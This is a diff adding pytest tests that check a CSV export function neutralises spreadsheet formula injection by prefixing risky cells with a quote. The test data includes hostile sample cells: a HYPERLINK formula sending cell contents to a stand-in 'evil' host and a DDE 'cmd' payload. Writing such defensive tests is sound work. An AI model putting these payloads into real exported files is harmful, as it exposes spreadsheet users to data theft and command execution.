@@ -129,3 +129,27 @@ def test_merge_settings_replaces_adds_and_restores_defaults() -> None:
 )
 def test_is_timezone(name: str, known: bool) -> None:
     assert logic.is_timezone(name) is known
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("-5", "-5"),
+        ("+Inf", "+Inf"),
+        ("d:dev-1", "d:dev-1"),
+        ("مینا", "مینا"),
+        (-5, -5),
+        (None, None),
+    ],
+)
+def test_csv_cells_cannot_be_formulas(value: object, written: object) -> None:
+    assert logic.csv_cell(value) == written
+
+
+def test_csv_lines_neutralise_formulas() -> None:
+    assert logic.csv_lines([["=1+1", 2, None]]) == "'=1+1,2,\n"
